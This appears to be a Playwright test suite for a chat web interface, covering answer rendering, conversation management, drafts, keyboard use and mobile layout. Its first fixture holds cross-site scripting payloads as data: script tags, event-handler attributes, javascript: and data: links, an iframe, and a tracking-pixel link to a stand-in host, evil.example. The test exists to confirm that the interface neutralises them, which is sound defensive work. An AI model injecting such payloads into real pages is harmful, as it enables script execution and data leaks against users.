"""The page around the answers: conversations, drafts, keyboard, and what a model may not do to it."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from .person import COMPOSER, Person

HOSTILE = """\
# Title

<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<div onclick="window.hacked = 3">click me</div>

[click me](javascript:window.hacked=4) and [data](data:text/html,<script>window.hacked=5</script>)

![track](https://evil.example/pixel.png?secret) ![b](//evil.example/b.png)

<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>

&lt;b&gt; &copy; &ClockwiseContourIntegral; &Tab;x

```html
<script>window.hacked = 6</script>
```
"""


def test_what_a_model_writes_does_not_run_and_fetches_nothing(person: Person) -> None:
    person.ask(tokens=re.findall(r"(?s).{1,7}", HOSTILE), rate=100)
    expect(person.answer.locator("figure code")).to_have_text("<script>window.hacked = 6</script>")
    person.expect_done()
    for link in person.answer.locator(".lc-prose a").all():
        address = link.get_attribute("href") or ""
        assert address.startswith("https://evil.example/")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow ugc"
    for text in ("click me", "track"):
        person.answer.get_by_text(text).first.scroll_into_view_if_needed()
    person.answer.get_by_text("click me").first.click()
    assert person.page.evaluate("window.hacked") is None
    expect(
        person.answer.locator(".lc-prose :is(script, img, iframe, style, [onclick], [onerror])")
    ).to_have_count(0)
    expect(person.prose).to_contain_text("<b> © ∲ \tx", use_inner_text=False)
    # The fixture looks for requests to other places, script errors and violations of the policy.


GROWING = """\
Some *text*

1. a
2. b
   - c

| a | b |
|---|--:|
| 1 | `2` |

> quote [x][1]

```py
x = 1
```

[1]: https://x.example/
"""


def test_what_has_grown_equals_what_is_rendered_at_once(person: Person) -> None:
    person.ask(tokens=re.findall(r"(?s).{1,3}", GROWING), rate=60)
    person.expect_done()
    coloured = person.answer.locator("figure .lc-number")
    expect(coloured).to_have_text("1")
    grown = person.prose.inner_html()
    person.page.reload()
    expect(person.answer.locator("a")).to_have_attribute("href", "https://x.example/")
    expect(coloured).to_have_text("1")
    assert person.prose.inner_html() == grown


def test_code_is_copied_and_the_page_says_so(person: Person) -> None:
    person.context.grant_permissions(["clipboard-read", "clipboard-write"])
    person.ask(tokens=["```py\nprint(1)\n```"])
    person.expect_done()
    person.answer.get_by_role("button", name="Copy code").click()
    expect(person.page.get_by_role("status")).to_have_text("Copied.")
    assert person.page.evaluate("navigator.clipboard.readText()") == "print(1)"


def test_a_conversation_is_renamed_in_place_pinned_and_found_by_its_address(person: Person) -> None:
    for word in ("one", "two"):
        person.page.get_by_role("link", name="New chat").first.click()
        person.ask(tokens=[word])
        expect(person.prose).to_have_text(word)
        person.expect_done()
    conversations = person.page.locator(".lc-list li")
    expect(conversations).to_have_count(2)

    conversations.last.hover()
    conversations.last.get_by_role("button").click()
    person.page.get_by_role("menuitem", name="Rename").click()
    person.page.get_by_label("Title").fill("The first one")
    person.page.keyboard.press("Enter")
    expect(conversations.last).to_contain_text("The first one")

    conversations.last.get_by_role("button").click()
    person.page.get_by_role("menuitem", name="Pin").click()
    expect(conversations.first).to_contain_text("The first one")
    person.page.reload()
    expect(conversations.first).to_contain_text("The first one")

    conversations.first.get_by_role("link").click()
    expect(person.prose).to_have_text("one")
    expect(person.page).to_have_title("The first one")
    person.page.go_back()
    expect(person.prose).to_have_text("two")
    person.page.goto(person.page.url)
    expect(person.prose).to_have_text("two")


def test_a_title_is_changed_in_the_header_and_in_the_other_tab(person: Person) -> None:
    person.ask(tokens=["hello"])
    person.expect_done()
    other = person.other_tab()
    person.page.locator(".lc-title").click()
    person.page.get_by_label("Title").fill("Greetings")
    person.page.keyboard.press("Enter")
    expect(other.page.locator(".lc-list li")).to_contain_text("Greetings")
    person.page.locator(".lc-title").click()
    person.page.get_by_label("Title").fill("Thrown away")
    person.page.keyboard.press("Escape")
    expect(person.page.locator(".lc-title")).to_have_text("Greetings")


def test_a_deletion_can_be_undone_and_otherwise_happens(person: Person) -> None:
    person.ask(tokens=["hello"])
    person.expect_done()
    conversations = person.page.locator(".lc-list li")

    def delete() -> None:
        person.page.get_by_role("button", name="More", exact=True).click()
        person.page.get_by_role("menuitem", name="Delete").click()
        expect(conversations).to_have_count(0)

    delete()
    person.notices.get_by_role("button", name="Undo").click()
    expect(conversations).to_have_count(1)
    expect(person.prose).to_have_text("hello")
    delete()
    # Leaving the page does not save it.
    person.page.goto(f"{person.url}/accounts/password/change/")
    person.page.goto(person.url)
    person.page.wait_for_selector(COMPOSER)
    expect(person.page.get_by_text("Your conversations will appear here.")).to_be_visible()


def test_a_draft_stays_with_its_conversation(person: Person) -> None:
    person.ask(tokens=["hello"])
    person.expect_done()
    person.write("more of this")
    person.page.get_by_role("link", name="New chat").first.click()
    expect(person.page.locator(COMPOSER)).to_have_value("")
    person.write("something else")
    person.page.reload()
    expect(person.page.locator(COMPOSER)).to_have_value("something else")
    person.page.locator(".lc-list li a").click()
    expect(person.page.locator(COMPOSER)).to_have_value("more of this")


def test_a_suggestion_is_asked_with_one_click(person: Person) -> None:
    suggestion = person.page.locator("[data-do=suggest]").first
    text = suggestion.text_content() or ""
    suggestion.click()
    expect(person.page.locator(".lc-user")).to_contain_text(text)
    person.expect_done()


def test_enter_that_ends_an_input_method_s_word_does_not_send(person: Person) -> None:
    person.write("日本")
    person.page.locator(COMPOSER).evaluate(
        """field => {
          const enter = {key: "Enter", bubbles: true, cancelable: true};
          const press = (init) => field.dispatchEvent(new KeyboardEvent("keydown", {...enter, ...init}));
          press({isComposing: true});
          press({keyCode: 229});
        }"""
    )
    expect(person.page.locator(".lc-message")).to_have_count(0)
    person.page.press(COMPOSER, "Shift+Enter")
    expect(person.page.locator(COMPOSER)).to_have_value("日本\n")
    person.page.press(COMPOSER, "Enter")
    expect(person.page.locator(".lc-user")).to_contain_text("日本")
    person.expect_done()


def test_the_reader_who_scrolled_up_is_left_alone(person: Person) -> None:
    person.ask(count=400, rate=60, pattern="line{n}\n\n")
    thread = person.page.locator("llmchat-thread")
    person.wait_for_text(600)
    thread.hover()
    person.page.mouse.wheel(0, -2_000)
    expect(person.page.get_by_role("button", name="To the end")).to_be_visible()
    top = thread.evaluate("element => element.scrollTop")
    person.wait_for_text(len(person.text()) + 300)
    assert thread.evaluate("element => element.scrollTop") == top
    expect(person.page.get_by_text("New text below")).to_be_visible()
    person.page.get_by_role("button", name="To the end").click()
    expect(person.page.get_by_role("button", name="To the end")).to_be_hidden()
    person.page.keyboard.press("Escape")


def test_the_end_of_an_answer_is_spoken_once(person: Person) -> None:
    person.ask(count=20, rate=8)
    live = person.page.get_by_role("status")
    person.wait_for_text(20)
    expect(live).to_be_empty()
    expect(live).to_have_text(re.compile("The answer is complete. token0 token1"))


def test_a_conversation_by_keyboard_alone(person: Person) -> None:
    keyboard = person.page.keyboard
    expect(person.page.locator(COMPOSER)).to_be_focused()
    keyboard.type('{"tokens": ["typed"]}')
    keyboard.press("Enter")
    expect(person.prose).to_have_text("typed")
    person.expect_done()
    keyboard.press("Shift+Tab")
    for _ in range(30):
        if person.page.evaluate("document.activeElement.getAttribute('aria-label')") == "Try again":
            break
        keyboard.press("Shift+Tab")
    keyboard.press("Enter")
    expect(person.answer.get_by_label("Version 2 of 2")).to_be_visible()
    person.expect_done()


@pytest.mark.parametrize("width", [320, 390])
def test_a_phone_has_a_drawer_and_no_sideways_scroll(person: Person, width: int) -> None:
    person.page.set_viewport_size({"width": width, "height": 700})
    person.ask(
        tokens=["```\n" + "wide " * 100 + "\n```\n\n| a | b |\n|--|--|\n| " + "long" * 40 + " | x |\n"]
    )
    person.expect_done()
    assert person.page.evaluate("document.scrollingElement.scrollWidth") <= width
    page_width = person.page.locator("llmchat-thread").evaluate("e => [e.scrollWidth, e.clientWidth]")
    assert page_width[0] <= page_width[1]
    sidebar = person.page.get_by_role("navigation", name="Conversations")
    expect(sidebar).to_be_hidden()
    person.page.get_by_role("button", name="Conversations").click()
    expect(sidebar).to_be_visible()
    person.page.keyboard.press("Escape")
    expect(sidebar).to_be_hidden()
    expect(person.page.get_by_role("button", name="Conversations")).to_be_focused()
